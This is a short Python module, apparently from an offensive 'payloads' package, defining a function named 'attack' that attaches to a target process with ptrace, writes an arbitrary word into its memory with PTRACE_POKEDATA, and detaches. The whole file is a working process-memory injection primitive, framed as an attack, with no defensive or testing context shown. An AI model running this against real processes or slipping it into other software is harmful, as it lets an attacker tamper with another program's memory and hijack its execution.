"""Attach to a process as a debugger and write into its memory."""

import os

from payloads.kernel import syscall

_POKEDATA, _ATTACH, _DETACH = 5, 16, 17


def attack(pid, address, word):
    syscall("ptrace", _ATTACH, pid, 0, 0)
    os.waitpid(pid, 0x40000000)  # __WALL
    try:
        syscall("ptrace", _POKEDATA, pid, address, word)
    finally:
        syscall("ptrace", _DETACH, pid, 0, 0)
